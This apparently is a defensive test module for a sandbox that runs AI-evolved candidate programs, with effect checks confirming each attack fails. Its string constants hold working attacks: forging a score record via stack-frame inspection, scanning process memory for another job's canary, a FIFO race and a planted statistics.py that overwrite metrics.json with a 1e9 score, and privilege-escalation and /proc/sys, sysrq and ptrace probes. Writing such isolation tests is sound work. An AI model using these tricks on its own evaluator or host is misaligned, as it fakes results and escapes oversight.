"""Programs and evaluators of the catalogue's attacks of issue 29, and the effect checks.

* ``forge_newline_exec``: a program with CRLF line endings whose module body walks up to the
  runner's record channel and nonce, run against an OpenEvolve-style evaluator that does
  ``exec(open(program_path).read())`` (text mode turns CRLF into LF, so the text matches no
  copy a stand-in could compare with): it holds when the code runs in the candidate's
  process and the stored score is the honest one;
* ``warm_heap_read``: an earlier evaluation's program carries a canary; the attack scans its
  own memory (every writable mapping of ``/proc/self/maps``) for it and prints what it finds;
* ``adapter_fifo_swap`` and ``adapter_planted_module``: the ShinkaEvolve adapter's results
  swapped through a FIFO-timed replacement of ``metrics.json``, or a module planted on its
  import path (the adapter itself is built above this layer: the caller hands it in).

The effect checks read what a row's program printed (``RESULT name value``) and the host: the
``raw_syscalls`` and ``proc_sys_poke`` rows hold only when ``setuid(0)``, ``unshare``,
``mount``, each ``/proc/sys`` write and ``ptrace`` failed and the host's hostname is unchanged.
"""

from __future__ import annotations

import re
import socket

from qdevolve.types import EvalResult

__all__ = ["EXEC_EVALUATOR", "NEWLINE_FORGERY", "HEAP_BEFORE", "HEAP_READ", "SHINKA_EVALUATE", "FIFO_SWAP",
           "PLANTED_SWAP", "RAW_SYSCALLS", "PROC_SYS_POKE", "syscalls_failed", "proc_sys_untouched",
           "printed_results"]

#: An OpenEvolve-style evaluator that executes the program's text (read in text mode).
EXEC_EVALUATOR = '''
def evaluate(program_path):
    namespace = {}
    exec(open(program_path).read(), namespace)
    return {"combined_score": float(namespace["value"]())}
'''

#: The newline forgery: ``%r`` is the forged record (``%s`` left for the nonce); CRLF endings.
NEWLINE_FORGERY = ("""
import os, sys
f, nonce, chans = sys._getframe(), None, []
while f is not None:
    if isinstance(f.f_locals.get("nonce"), str):
        nonce = f.f_locals["nonce"]
    if isinstance(f.f_locals.get("channel"), int):
        chans.append(f.f_locals["channel"])
    f = f.f_back
if nonce and chans:
    os.write(chans[-1], (%r %% nonce).encode())
    os._exit(0)


def value():
    return 0.25
""").strip().replace("\n", "\r\n") + "\r\n"

#: The earlier evaluation of ``warm_heap_read``: its text carries the job canary.
HEAP_BEFORE = ('"""' + "an ordinary program of a few kilobytes; " * 100 + '"""\n'
               'CANARY = "__JOBCANARY__"\n' + "# padding\n" * 200 + 'print("holding", len(CANARY))\n')

#: The heap read: every readable, writable mapping of this process, searched for a job canary
#: (the pattern does not match its own text).
HEAP_READ = r'''
import re
found = set()
pattern = re.compile(rb"jobcanary-[0-9a-f]{24}")
with open("/proc/self/maps") as fh:
    maps = fh.read().splitlines()
import ctypes
for line in maps:  # ctypes reads this process's memory even where /proc/self/mem is closed to it
    fields = line.split()
    lo, hi = (int(x, 16) for x in fields[0].split("-"))
    if not fields[1].startswith("rw") or hi - lo > 256 << 20:
        continue
    found.update(m.decode() for m in pattern.findall(ctypes.string_at(lo, hi - lo)))
print("RESULT scanned", len(maps))
for token in sorted(found):
    print("FOUND", token)
'''

#: A ShinkaEvolve ``evaluate.py``: ``main`` writes ``metrics.json`` (0.25) after the program ran.
SHINKA_EVALUATE = '''
import importlib.util, json, os


def main(program_path, results_dir):
    spec = importlib.util.spec_from_file_location("cand", program_path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    mod.value()
    import statistics  # a lazy import after the candidate ran
    with open(os.path.join(results_dir, "metrics.json"), "w") as fh:
        json.dump({"combined_score": 0.25 + 0 * statistics.mean([1])}, fh)
    with open(os.path.join(results_dir, "correct.json"), "w") as fh:
        json.dump({"correct": True}, fh)
'''

#: The candidate: a FIFO as ``correct.json`` holds ``main()`` until ``metrics.json`` was replaced.
FIFO_SWAP = '''
import glob, json, os, tempfile, time


def value():
    dirs = set(glob.glob(os.getcwd() + "/shinka-results-*") + glob.glob(tempfile.gettempdir() + "/shinka-results-*")
               + glob.glob("/tmp/shinka-results-*"))
    for d in dirs:
        try:
            os.mkfifo(os.path.join(d, "correct.json"))
        except OSError:
            continue
        if os.fork() == 0:
            os.setsid()
            m = os.path.join(d, "metrics.json")
            for _ in range(5000):
                if os.path.exists(m) and os.path.getsize(m) > 0:
                    break
                time.sleep(0.001)
            time.sleep(0.05)
            with open(m + ".x", "w") as fh:
                json.dump({"combined_score": 1e9}, fh)
            os.replace(m + ".x", m)
            fd = os.open(os.path.join(d, "correct.json"), os.O_RDONLY)
            os.read(fd, 1 << 16)
            os._exit(0)
    return 1
'''

#: The candidate: a module planted wherever the adapter's evaluator may import from
#: (``__PLANT__``: the planted module's text as a Python literal).
PLANTED_SWAP = '''
import glob, os, sys, tempfile
PLANT = __PLANT__


def value():
    dirs = set(glob.glob(os.getcwd() + "/shinka-modules-*") + glob.glob(tempfile.gettempdir() + "/shinka-modules-*")
               + glob.glob("/tmp/shinka-modules-*") + ["/qdevolve/evaluator", os.getcwd()]
               + glob.glob("/qdevolve/evaluators/*") + [p for p in sys.path if p])
    for d in dirs:
        try:
            with open(os.path.join(d, "statistics.py"), "w") as fh:
                fh.write(PLANT)
        except OSError:
            pass
    return 1
'''

RAW_SYSCALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("RESULT setuid", libc.setuid(0), ctypes.get_errno())
print("RESULT unshare", libc.unshare(0x00020000), ctypes.get_errno())
print("RESULT mount", libc.mount(b"none", b"/usr", b"tmpfs", 0, None), ctypes.get_errno())
"""

PROC_SYS_POKE = """
import ctypes
for name, p in [("hostname", "/proc/sys/kernel/hostname"), ("sysrq", "/proc/sysrq-trigger"),
                ("thp", "/sys/kernel/mm/transparent_hugepage/enabled")]:
    try:
        with open(p, "w") as fh:
            fh.write("x")
        print("RESULT", name, "written")
    except OSError as exc:
        print("RESULT", name, "refused", exc.errno)
libc = ctypes.CDLL(None, use_errno=True)
print("RESULT ptrace", libc.ptrace(16, 1, None, None), ctypes.get_errno())
"""

_RESULT = re.compile(r"^RESULT (\S+) (.*)$", re.M)


def printed_results(result: EvalResult) -> dict[str, str]:
    """``{name: value}`` of the ``RESULT name value`` lines a row's program printed."""
    return {m.group(1): m.group(2).strip() for m in _RESULT.finditer(result.artifacts.get("stdout", ""))}


def _expect(result: EvalResult, names: tuple[str, ...], failed) -> list[str]:
    if result.status not in ("ok", "error"):
        return []  # stopped before it could act (a timeout): nothing took effect
    seen = printed_results(result)
    out = []
    for name in names:
        if name not in seen:
            out.append(f"no outcome printed for {name} (cannot verify it failed)")
        elif not failed(seen[name]):
            out.append(f"EFFECT: {name} succeeded ({seen[name]})")
    return out


def syscalls_failed(result: EvalResult, host: object) -> list[str]:
    """``setuid(0)``, ``unshare(CLONE_NEWNS)`` and ``mount`` each returned -1."""
    return _expect(result, ("setuid", "unshare", "mount"), lambda v: v.split()[0] == "-1")


def proc_sys_untouched(result: EvalResult, host: object) -> list[str]:
    """Every write under ``/proc/sys``, ``/proc/sysrq-trigger`` and ``/sys`` was refused, ptrace
    of pid 1 returned -1, and the host's hostname is the one it had."""
    out = _expect(result, ("hostname", "sysrq", "thp"), lambda v: v.startswith("refused"))
    out += _expect(result, ("ptrace",), lambda v: v.split()[0] == "-1")
    if socket.gethostname() != getattr(host, "hostname", socket.gethostname()):
        out.append(f"EFFECT: the host's hostname changed to {socket.gethostname()!r}")
    return out


def heap_clean(result: EvalResult, host: object) -> list[str]:
    """The scan ran, and found no earlier evaluation's canary."""
    seen = printed_results(result)
    out = [] if "scanned" in seen or result.status != "ok" else ["the heap scan did not run"]
    value = getattr(host, "job_value", None)
    if value and value in result.artifacts.get("stdout", ""):
        out.append("EFFECT: the candidate found an earlier evaluation's program in its memory")
    return out
